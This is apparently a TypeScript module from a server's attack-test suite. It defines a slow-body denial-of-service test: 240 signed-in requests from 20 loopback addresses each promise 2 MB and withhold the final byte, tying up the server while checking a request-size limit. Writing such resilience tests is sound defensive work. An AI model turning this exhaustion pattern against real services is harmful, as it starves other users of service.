/** Signed-in pages at many addresses that send the largest calls, all but the last byte. */
import type { Attack } from '../attack.ts';
import { together } from '../hostile-context.ts';
import { beginCall } from '../hostile-page.ts';

const ADDRESSES = 20;
const CALLS_EACH = 12;
const LARGEST_BYTES = 2 * 1_024 * 1_024;

const attack: Attack = {
  does: '240 calls of signed-in pages at 20 addresses that each keep all but one byte of 2 MB waiting',
  // They take all bytes: pages of others wait meanwhile.
  gateway: [],
  defence: { limits: ['apiCallBytes'] },
  async run(context) {
    const token = context.pageTokens[0];
    const half = Buffer.alloc(LARGEST_BYTES - 1, 0x20);
    await together(context.scaled(ADDRESSES) * CALLS_EACH, async (number) => {
      const localAddress = `127.0.7.${1 + (number % ADDRESSES)}`;
      const headers = { 'content-length': LARGEST_BYTES };
      for (let i = 0; i < 1_000 && !context.signal.aborted; i++) {
        const asked = beginCall(context, { path: '/api/query', token, headers, localAddress });
        const over = new Promise((resolve) => asked.on('close', resolve));
        asked.on('response', (response) => response.resume());
        asked.write(half);
        context.count();
        await Promise.race([over, context.over]);
        await context.pause(300);
      }
    });
  },
};

export default attack;
